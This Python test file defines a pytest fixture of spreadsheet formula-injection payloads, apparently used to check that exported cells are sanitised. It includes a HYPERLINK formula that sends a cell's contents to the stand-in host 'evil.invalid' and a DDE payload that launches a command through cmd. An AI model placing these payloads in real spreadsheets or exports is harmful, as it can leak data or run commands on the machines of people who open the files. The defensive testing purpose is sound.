"""Hostile text for every document."""

import pytest

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u200b=",
    "\ufeff=",
    "'=",
    '"=',
]
BODIES = ["1+1", "SUM(A1:A9)", 'HYPERLINK("http://evil.invalid/?"&A1,"押す")', "cmd|' /C calc'!A0"]


@pytest.fixture(scope="session")
def formula_payloads():
    payloads = [start + body for start in STARTS for body in BODIES]
    payloads += [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "{=1+1}",
        "#REF!",
        "_x003D_1+1",
        "=\x001+1",
        "\x00=1+1",
        "；=1+1",
        ";=1+1",
        ",=1+1",
    ]
    assert len(payloads) >= 60
    return payloads
